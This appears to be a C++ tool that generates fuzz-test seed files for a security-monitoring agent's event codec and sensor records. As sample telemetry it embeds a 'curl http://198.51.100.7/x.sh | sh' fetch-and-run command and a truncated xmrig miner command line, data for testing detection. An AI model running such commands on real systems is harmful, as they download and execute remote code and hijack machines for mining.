// Writes the binary seeds of the corpus: encoded batches for
// fuzz_ingest_decode and sensor records for fuzz_sensor_record and
// fuzz_sensor_wire. Run it after a change to the wire format or the record
// layout: `fuzz_make_seeds tests/fuzz/corpus`.
#include <arpa/inet.h>
#include <zstd.h>

#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "sensor_record.h"
#include "vigie/protocol/codec.h"

namespace fs = std::filesystem;
using namespace std::string_literals;
namespace protocol = vigie::protocol;

namespace {

void write(const fs::path& path, const void* data, size_t size) {
  fs::create_directories(path.parent_path());
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out.write(static_cast<const char*>(data), static_cast<std::streamsize>(size));
  if (!out) {
    std::fprintf(stderr, "cannot write %s\n", path.c_str());
    std::exit(1);
  }
  std::printf("%s (%zu bytes)\n", path.c_str(), size);
}

void write(const fs::path& path, const std::string& bytes) {
  write(path, bytes.data(), bytes.size());
}
void write(const fs::path& path, const std::vector<uint8_t>& bytes) {
  write(path, bytes.data(), bytes.size());
}

protocol::Event event(protocol::EventKind kind) {
  protocol::Event e;
  e.time_ns = 1'700'000'000'000'000'000ull;
  e.site = "site-a";
  e.host = "node1";
  e.pid = 4242;
  e.ppid = 1;
  e.uid = 1001;
  e.gid = 1001;
  e.user = "alice";
  e.cgroup_id = 77;
  e.workload = {protocol::WorkloadKind::kSlurmJob, "42", "alice", "/slurm/uid_1001/job_42/step_0"};
  switch (kind) {
    case protocol::EventKind::kProcessExec:
      e.body = protocol::ProcessExec{"/usr/bin/curl", {"curl", "-s", "http://198.51.100.7/x.sh"},
                                     false,           "curl -s http://198.51.100.7/x.sh",
                                     "/bin/bash",     "bash job.sh"};
      break;
    case protocol::EventKind::kProcessExit:
      e.body = protocol::ProcessExit{0, 9, "/usr/bin/curl"};
      break;
    case protocol::EventKind::kNetworkConnect:
      e.body = protocol::NetworkConnect{protocol::Transport::kUdp, true, "2001:db8::7", 443,
                                        "/usr/bin/curl"};
      break;
  }
  return e;
}

protocol::Batch full_batch() {
  protocol::Batch b;
  b.agent_id = "agent-node1";
  b.site = "site-a";
  b.host = "node1";
  b.sequence = 7;
  b.sent_ns = 1'700'000'010'000'000'000ull;
  for (auto kind : {protocol::EventKind::kProcessExec, protocol::EventKind::kProcessExit,
                    protocol::EventKind::kNetworkConnect}) {
    b.events.push_back(event(kind));
  }
  b.zone_energy.push_back({1'700'000'000'000'000'000ull, 1'700'000'010'000'000'000ull, "package-0",
                           protocol::EnergySource::kRapl, false, 100.0, true});
  b.zone_energy.push_back({1'700'000'000'000'000'000ull, 1'700'000'010'000'000'000ull, "core",
                           protocol::EnergySource::kRapl, false, 60.0, false});
  b.workload_energy.push_back({1'700'000'000'000'000'000ull, 1'700'000'010'000'000'000ull,
                               event(protocol::EventKind::kProcessExit).workload, 8.5, 90.0, 1.0,
                               false});
  b.workload_energy.push_back({1'700'000'000'000'000'000ull,
                               1'700'000'010'000'000'000ull,
                               {protocol::WorkloadKind::kUnattributed, "unattributed", "", ""},
                               0,
                               30.0,
                               0.5,
                               true});
  b.alerts.push_back({"aacfba47-7e2a-4cb0-99eb-844dbad23c05",
                      "Execution From /tmp",
                      "medium",
                      {"attack.execution"},
                      event(protocol::EventKind::kProcessExec)});
  b.status = {3, 1000, 0, "2025.01.15"};
  return b;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) {
    std::fprintf(stderr, "usage: %s <tests/fuzz/corpus>\n", argv[0]);
    return 2;
  }
  const fs::path corpus = argv[1];

  const fs::path ingest = corpus / "fuzz_ingest_decode";
  const std::string full = protocol::encode_batch(full_batch());
  write(ingest / "batch_full.zst", full);
  protocol::Batch minimal;
  minimal.agent_id = "a";
  minimal.host = "h";
  minimal.sequence = 1;
  write(ingest / "batch_min.zst", protocol::encode_batch(minimal));
  // The same payload uncompressed, behind the target's 'P' marker.
  std::string raw(ZSTD_getFrameContentSize(full.data(), full.size()), '\0');
  raw.resize(ZSTD_decompress(raw.data(), raw.size(), full.data(), full.size()));
  write(ingest / "batch_full.pb", "P" + raw);

  const std::string args = "bash\0-c\0curl -s http://198.51.100.7/x.sh | sh\0"s;
  const uint8_t v4[4] = {198, 51, 100, 7};
  const uint8_t v6[16] = {0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 7};
  for (const char* target : {"fuzz_sensor_record", "fuzz_sensor_wire"}) {
    const fs::path dir = corpus / target;
    write(dir / "exec.bin", vigie::fuzz::exec_record(args, "/usr/bin/bash"));
    // Cut by the kernel: the last argument has no NUL.
    write(dir / "exec_truncated.bin",
          vigie::fuzz::exec_record("xmrig\0-o\0stratum+tcp://po"s, "/tmp/xmrig",
                                   SENSOR_EXEC_ARGV_TRUNCATED));
    write(dir / "exit.bin", vigie::fuzz::exit_record(9));
    write(dir / "connect_v4.bin", vigie::fuzz::connect_record(SENSOR_AF_INET, v4, sizeof v4,
                                                              htons(3333), SENSOR_TRANSPORT_TCP));
    write(dir / "connect_v6.bin", vigie::fuzz::connect_record(SENSOR_AF_INET6, v6, sizeof v6,
                                                              htons(53), SENSOR_TRANSPORT_UDP));
  }
  return 0;
}
